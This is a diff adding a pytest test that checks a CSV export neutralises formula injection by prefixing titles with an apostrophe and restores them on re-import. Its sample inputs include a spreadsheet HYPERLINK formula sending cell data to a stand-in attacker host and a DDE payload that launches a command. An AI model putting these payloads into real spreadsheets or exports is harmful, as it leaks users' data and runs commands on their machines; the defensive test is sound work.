@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 
 import pytest
@@ -173,3 +175,28 @@ def test_it_does_not_export_for_someone_outside_the_organisation(client, org, ot
     client.force_login(make_member(other_org))
     make_usecase(org)
     assert client.get(url("export", org)).status_code == 404
+
+
+FORMULA_TITLES = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"x")',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "@SUM(1,1)",
+    "-1+2",
+]
+
+
+def test_it_exports_formula_like_titles_as_text_that_imports_back_unchanged(client, lead, org):
+    for title in FORMULA_TITLES:
+        make_usecase(org, title=title, problem="=2*3")
+    client.force_login(lead)
+    content = client.get(url("export", org), {"format": "csv"}).content
+    rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))
+    assert sorted(row["title"] for row in rows) == sorted("'" + t for t in FORMULA_TITLES)
+    assert {row["problem"] for row in rows} == {"'=2*3"}
+
+    upload(client, org, content, "register.csv")
+    preview = client.post(url("import_preview", org, pk=Upload.objects.get().pk))
+    assert preview.status_code == 302
+    assert sorted(UseCase.objects.values_list("title", flat=True)) == sorted(FORMULA_TITLES)
+    assert UseCase.objects.count() == len(FORMULA_TITLES)  # updated in place, nothing added
